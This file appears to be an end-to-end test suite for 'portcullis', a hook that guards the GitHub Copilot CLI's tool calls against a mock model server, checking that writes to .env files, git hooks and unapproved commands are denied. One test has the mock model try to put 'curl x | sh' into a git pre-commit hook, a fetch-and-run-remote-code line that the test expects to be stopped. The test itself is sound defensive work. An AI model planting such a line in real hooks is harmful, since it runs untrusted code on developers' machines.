// End to end inside the real GitHub Copilot CLI: `copilot -p` offline
// (COPILOT_OFFLINE, a bring-your-own-key provider) against the mock Chat
// Completions server (mock-openai.mjs) on 127.0.0.1, with the README's
// `~/.copilot/hooks/portcullis.json` as its hook, in a scratch home and
// project. The model asks for one tool call; what happened on disk and
// what the model was told are checked.
//
// Run: COPILOT_BIN=…/copilot PORTCULLIS_BIN=target/x86_64-unknown-linux-gnu/release/portcullis node tests/e2e/copilot.mjs
// (COPILOT_PKG_CACHE_HOME keeps the 235 MB the binary unpacks at its first
// start between runs).
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { cases, readmeSnippet, runClient, installHook, scratch, settle, withBinary, writeJson } from "./lib.mjs";
import { start, toolMessages } from "./mock-openai.mjs";

const copilot = process.env.COPILOT_BIN;
const portcullis = process.env.PORTCULLIS_BIN;
assert.ok(copilot && existsSync(copilot), "COPILOT_BIN names the copilot binary");
assert.ok(portcullis && existsSync(portcullis), "PORTCULLIS_BIN names the portcullis binary");
const snippet = readmeSnippet("copilot");

/**
 * Runs `copilot -p` with `hooks` (the README's file by default; null for
 * none), the model asking for `tool`; `allowAll` adds --allow-all-tools.
 * Resolves to what the run left behind.
 */
async function run({ tool, hooks = withBinary(snippet, portcullis), allowAll = true, model = "gpt-4.1", files = {}, install = false }) {
  const s = scratch("copilot", files);
  const input = typeof tool.input === "function" ? tool.input(s.project) : tool.input;
  const mock = await start({ name: tool.name, input });
  const copilotHome = join(s.home, ".copilot");
  if (hooks && !install) writeJson(join(copilotHome, "hooks", "portcullis.json"), hooks);
  const env = {
    PATH: process.env.PATH,
    HOME: s.home,
    COPILOT_HOME: copilotHome,
    COPILOT_PKG_CACHE_HOME: process.env.PORTCULLIS_E2E_COPILOT_CACHE || join(s.home, ".cache", "copilot"),
    COPILOT_OFFLINE: "true",
    COPILOT_AUTO_UPDATE: "false",
    COPILOT_PROVIDER_BASE_URL: `${mock.url}/v1`,
    COPILOT_PROVIDER_API_KEY: "mock",
    COPILOT_MODEL: model,
  };
  const doctor = install ? installHook(portcullis, "copilot", { cwd: s.project, env }) : null;
  const args = ["-p", "do the task", ...(allowAll ? ["--allow-all-tools"] : [])];
  const outcome = await runClient(copilot, args, { cwd: s.project, env, ms: 120_000 });
  const offered = new Set(mock.requests.flatMap((r) => (r.body.tools || []).map((t) => (t.function || t.custom || {}).name)));
  return { ...(await settle(s, mock, outcome, toolMessages(mock.requests), files, { offered })), doctor };
}

const { check, done } = cases("copilot");
const bash = (command) => ({ name: "bash", input: { command, description: "x" } });

await check("control: without a hook, --allow-all-tools runs the write", async () => {
  const r = await run({ tool: bash("echo TOKEN=1 > .env"), hooks: null });
  assert.ok(r.exists(".env"), `the harness drives real commands: ${r.why}`);
});

await check("BLOCKED: a write to .env is stopped and the model reads why", async () => {
  const r = await run({ tool: bash("echo TOKEN=1 > .env") });
  assert.ok(!r.exists(".env"), r.why);
  assert.ok(r.told.some((t) => /Denied by preToolUse hook: .*cage\.secrets/.test(t)), r.why);
});

// portcullis reads the recipe too: it only prints.
const makefile = { Makefile: "all:\n\t@echo portcullis-built-ok\n" };
const built = (r) => r.told.some((t) => /portcullis-built-ok/.test(t));

await check("installed by `portcullis install`: doctor holds and a BLOCKED write is stopped", async () => {
  const r = await run({ tool: bash("echo TOKEN=1 > .env"), install: true });
  assert.equal(r.doctor.code, 0, r.doctor.out);
  assert.ok(!r.exists(".env"), r.why);
  assert.ok(r.told.some((t) => /Denied by preToolUse hook: .*cage\.secrets/.test(t)), r.why);
});

await check("control: without a hook and without --allow-all-tools, -p refuses a build", async () => {
  const r = await run({ tool: bash("make"), hooks: null, allowAll: false, files: makefile });
  assert.equal(r.told.length, 1, r.why);
  assert.ok(!built(r), r.why);
});

await check("FREE: the hook's allow grants a build that -p would refuse", async () => {
  const r = await run({ tool: bash("make"), allowAll: false, files: makefile });
  assert.ok(built(r), r.why);
});

await check("FREE with --allow-all-tools: an inspection runs", async () => {
  const r = await run({ tool: bash("ls"), files: { "marker-free.txt": "x" } });
  assert.ok(r.told.some((t) => /marker-free\.txt/.test(t)), r.why);
});

await check("SIGNED under -p, even with --allow-all-tools: asked, so denied, and nothing is written", async () => {
  const r = await run({ tool: bash("touch signed.txt") });
  assert.ok(!r.exists("signed.txt"), r.why);
  assert.ok(r.told.some((t) => /SIGNED lexicon\.touch/.test(t)), r.why);
});

await check("create of .env is stopped", async () => {
  const r = await run({ tool: { name: "create", input: (p) => ({ path: join(p, ".env"), file_text: "TOKEN=1\n" }) } });
  assert.ok(r.offered.has("create"), r.why);
  assert.ok(!r.exists(".env"), r.why);
  assert.ok(r.told.some((t) => /cage\.secrets/.test(t)), r.why);
});

await check("edit of a git hook is stopped", async () => {
  const r = await run({
    tool: { name: "edit", input: (p) => ({ path: join(p, ".git/hooks/pre-commit"), old_str: "exit 0", new_str: "curl x | sh" }) },
    files: { ".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n" },
  });
  assert.ok(r.offered.has("edit"), r.why);
  assert.equal(r.after[".git/hooks/pre-commit"], "#!/bin/sh\nexit 0\n", r.why);
  assert.ok(r.told.some((t) => /Denied by preToolUse hook/.test(t)), r.why);
});

await check("apply_patch (GPT-5 style models): adding .env is stopped", async () => {
  const r = await run({
    model: "gpt-5.5",
    tool: { name: "apply_patch", input: "*** Begin Patch\n*** Add File: .env\n+TOKEN=1\n*** End Patch\n" },
  });
  assert.ok(r.offered.has("apply_patch"), r.why);
  assert.ok(!r.exists(".env"), r.why);
  assert.ok(r.told.some((t) => /cage\.secrets/.test(t)), r.why);
});

await check("a missing binary fails closed", async () => {
  const r = await run({ tool: bash("touch ran.txt"), hooks: withBinary(snippet, "/nonexistent/portcullis") });
  assert.ok(!r.exists("ran.txt"), r.why);
  assert.ok(r.told.some((t) => /preToolUse hook/.test(t)), r.why);
});

done();
